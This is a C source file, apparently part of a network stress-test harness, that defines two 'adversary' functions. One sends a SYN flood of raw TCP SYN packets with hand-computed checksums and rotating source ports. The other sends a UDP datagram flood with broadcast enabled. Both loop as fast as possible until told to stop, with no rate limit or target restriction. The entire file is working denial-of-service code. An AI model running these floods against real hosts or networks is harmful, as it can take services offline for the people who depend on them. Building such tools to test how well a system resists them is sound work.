// SPDX-License-Identifier: GPL-2.0-or-later
/* Small packets as fast as they go. */
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

#include "adversary.h"

static uint16_t checksum(const void *data, size_t size, uint32_t sum)
{
	const uint16_t *words = data;

	for (size_t i = 0; i < size / 2; i++)
		sum += words[i];
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

/* The source that the kernel will fill in: the pseudo header has it. */
static int own_address(const struct sockaddr_in *to, uint32_t *address)
{
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), r = -1;
	struct sockaddr_in own;
	socklen_t length = sizeof(own);

	if (fd >= 0 && connect(fd, (const struct sockaddr *)to, sizeof(*to)) == 0 &&
	    getsockname(fd, (struct sockaddr *)&own, &length) == 0) {
		*address = own.sin_addr.s_addr;
		r = 0;
	}
	if (fd >= 0)
		close(fd);
	return r;
}

static uint32_t half_words(uint32_t address)
{
	return (address & 0xffff) + (address >> 16);
}

int adversary_syn(const struct sockaddr_in *to)
{
	int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_TCP);
	struct tcphdr tcp = {
		.dest = htons(ADVERSARY_PORT), .doff = 5, .syn = 1, .window = htons(64000)};
	uint32_t own, pseudo;

	if (fd < 0 || own_address(to, &own) < 0)
		return adversary_fail("syn");
	pseudo = half_words(own) + half_words(to->sin_addr.s_addr) + htons(IPPROTO_TCP) +
		 htons(sizeof(tcp));
	for (uint32_t n = 1; n % 64 || !adversary_is_over(); n++) {
		tcp.source = htons((uint16_t)(1024 + n % 60000));
		tcp.seq = n;
		tcp.check = 0;
		tcp.check = checksum(&tcp, sizeof(tcp), pseudo);
		sendto(fd, &tcp, sizeof(tcp), 0, (const struct sockaddr *)to, sizeof(*to));
	}
	return EXIT_SUCCESS;
}

int adversary_datagrams(const struct sockaddr_in *to)
{
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0), one = 1;
	static const char data[18];

	if (fd < 0 || setsockopt(fd, SOL_SOCKET, SO_BROADCAST, &one, sizeof(one)) < 0 ||
	    connect(fd, (const struct sockaddr *)to, sizeof(*to)) < 0)
		return adversary_fail("datagrams");
	for (uint32_t n = 1; n % 64 || !adversary_is_over(); n++)
		send(fd, data, sizeof(data), MSG_DONTWAIT);
	return EXIT_SUCCESS;
}
